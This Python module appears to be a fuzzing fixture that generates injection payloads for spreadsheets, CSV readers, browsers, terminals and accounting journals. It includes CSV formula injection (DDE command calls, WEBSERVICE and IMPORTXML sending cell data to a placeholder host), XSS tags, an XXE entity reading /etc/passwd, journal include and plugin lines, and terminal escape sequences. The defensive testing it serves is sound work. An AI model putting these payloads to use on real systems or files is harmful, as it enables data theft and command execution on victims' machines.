"""Texts that some program on the way acts upon: spreadsheets, terminals, browsers, journals, csv readers, file formats."""

from __future__ import annotations

from itertools import product

#: Stands in every payload, so that a place where one acts is found by it.
MARK = "EVIL"
#: What makes a cell a formula for one program or another, alone and behind what programs skip.
SIGNS = ("=", "+", "-", "@", "\t", "\r", "\n", "\0", "＝", "＋", "－", "＠")
HIDDEN_SIGNS = (
    " =",
    "\t=",
    "\r\n=",
    '"=',
    "'=",
    ";=",
    ";-",
    "\t+",
    "x;@",
    'x;"=',
    "x\t=",
    "x\n=",
    "\u00a0=",
    "\ufeff=",
    "%=",
)
BODIES = (
    f"{MARK}()+1",
    f"cmd|' /C calc'!{MARK}",
    f'HYPERLINK("http://{MARK}.invalid","{MARK}")',
    f'WEBSERVICE("http://{MARK}.invalid/"&A1)',
    f'DDE("cmd";"/C {MARK}";"x")',
    f'IMPORTXML(CONCAT("http://{MARK}.invalid?",A1),"//a")',
    f"'file:///etc/passwd'#$passwd.A1&{MARK}",
    f"SUM(1+1)*{MARK}",
)
LINKS = (
    f"http://{MARK}.invalid/",
    f"https://{MARK}.invalid/a?b=c#d",
    f"ftp://{MARK}.invalid",
    f"file:///etc/{MARK}",
    f"mailto:{MARK}@example.invalid",
    f"www.{MARK}.invalid",
    f"internal:Sheet1!{MARK}",
    f"external:c:\\{MARK}.xlsx",
    f"\\\\{MARK}.invalid\\share",
    f"javascript:alert('{MARK}')",
    f"data:text/html,{MARK}",
    f"{{={MARK}()}}",
    f"{{{MARK}}}",
    f"#REF!{MARK}",
    f"#{MARK}!",
)
MARKUP = (
    f"<script>{MARK}</script>",
    f"<img src=x onerror={MARK}>",
    f"[{MARK}](javascript:{MARK})",
    f"![{MARK}](http://{MARK}.invalid/x.png)",
    f"<http://{MARK}.invalid>",
    f"[{MARK}]: http://{MARK}.invalid",
    f"a | {MARK} | b |",
    f"`{MARK}`",
    f"**{MARK}** _x_ ~~y~~",
    f"\\| {MARK} \\",
    f"| --- | {MARK} |",
    f"# {MARK}",
    f"&lt;script&gt;{MARK}&#60;b&#62;",
    f"<r><t>{MARK}</t></r>",
    f"<!--{MARK}-->",
    f"]]>{MARK}<![CDATA[",
    f"<!DOCTYPE x [<!ENTITY {MARK} SYSTEM 'file:///etc/passwd'>]>&{MARK};",
    f"_x000A_{MARK}_x0041_",
    f"</t></is></c><c><f>{MARK}</f></c>",
    f'"><f>{MARK}</f>',
)
JOURNALS = (
    f"; {MARK}",
    f"x ; comment:{MARK}, other:{MARK}",
    f"x | {MARK}",
    f"(code) {MARK}",
    f"* ! {MARK}",
    f"\n2024-01-01 open Assets:{MARK} EUR",
    f"\n2024-01-01 * {MARK}\n    Assets:{MARK}  1000000 EUR\n    Equity:{MARK}",
    f'\ninclude "/etc/{MARK}"',
    f'\nplugin "{MARK}"',
    f'\noption "title" "{MARK}"',
    f"\ncomment\n{MARK}",
    f"\n~ monthly {MARK}",
    f"\n= ^Assets {MARK}",
    f"\n    Assets:{MARK}  1 EUR",
    f"\n\n{MARK}",
    f"[date:2024-01-01] {MARK}",
    f"date:2024-13-45, {MARK}:1",
    f'"{MARK}"',
    f'x" #{MARK} ^{MARK} "',
    f"x\\{MARK}",
    f"{MARK}  1000 EUR",
    f"{MARK}:{MARK}::{MARK}",
    f"{MARK} %41%00",
    f"{MARK} @ 2 EUR == 3 EUR",
    f"account {MARK}",
)
QUOTING = (
    f'"{MARK}","x"',
    f'{MARK}""x',
    f'"{MARK}',
    f"'{MARK}'",
    f"''{MARK}",
    f"{MARK}\r\nx,1,2,3",
    f"{MARK}\n,,,",
    f"{MARK};x;1",
    f"{MARK}\t1\t2",
    f"{MARK}, , ",
    f"sep=;\n{MARK}",
    f"{MARK}\u2028x\u2029y\x85z",
)
CONTROLS = tuple(
    f"a{chr(code)}{MARK}{chr(code)}" for code in (*range(0x20), *range(0x7F, 0xA0), 0xFFFE, 0xFFFF, 0xD800, 0xDFFF)
)
SIGHT = (
    *(f"{sign}{MARK} abc 123\u202c" for sign in "\u202a\u202b\u202d\u202e\u2066\u2067\u2068\u200e\u200f\u061c"),
    *(f"{MARK[:2]}{sign}{MARK}" for sign in "\u200b\u200c\u200d\u2060\ufeff\u00ad\u034f\u3164"),
    MARK + "\u0301" * 200,
    f"{MARK}\U0001f600\U000e0041\U0010ffff",
    f"\x1b[2J\x1b]0;{MARK}\x07\x1b[31m",
    f"\x1b]8;;http://{MARK}.invalid\x1b\\{MARK}\x1b]8;;\x1b\\",
    f"\x9b31m{MARK}",
    f"  {MARK}  ",
    f"{MARK}[bold red]x[/]",
)
LONG = (
    MARK + "x" * 32_763,
    MARK + "x" * 32_764,
    MARK + "\U0001f600" * 20_000,
    "=" + MARK + "y" * 40_000,
    f"{MARK} " + "a very long line of words " * 2_000,
)


def payloads() -> list[str]:
    """All of them, each once."""
    signs = [sign + body for sign, body in product(SIGNS, BODIES)]
    hidden = [sign + body for sign, body in product(HIDDEN_SIGNS, (BODIES[0], BODIES[1]))]
    rest = [sign + MARK for sign in SIGNS]
    return list(dict.fromkeys([*signs, *hidden, *rest, *LINKS, *MARKUP, *JOURNALS, *QUOTING, *CONTROLS, *SIGHT, *LONG]))
